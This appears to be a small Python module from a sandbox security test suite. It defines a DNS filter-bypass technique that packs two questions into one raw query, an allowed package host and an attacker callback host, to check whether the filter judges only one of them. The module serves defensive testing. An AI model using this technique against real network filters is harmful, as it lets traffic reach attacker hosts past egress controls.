"""A message with two questions is answered by some for the first and judged by others by the last."""

import struct
from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import Technique

TECHNIQUE = Technique(
    tries="Ask for an allowed name and the attacker's in one message.",
    claim="E3",
    defences=("DNS strictness",),
    stopped_by=("dns_malformed",),
    variants={"the allowed first": 0, "the allowed last": 1},
    quick=True,
)


def attack(case: Case, what: Any) -> None:
    first, second = (inside.wire_name(name) + b"\0\1\0\1" for name in (case.ground.packages, case.ground.callback))
    both = second + first if what else first + second
    case.send_query(struct.pack("!6H", 7, 0x0100, 2, 0, 0, 0) + both)
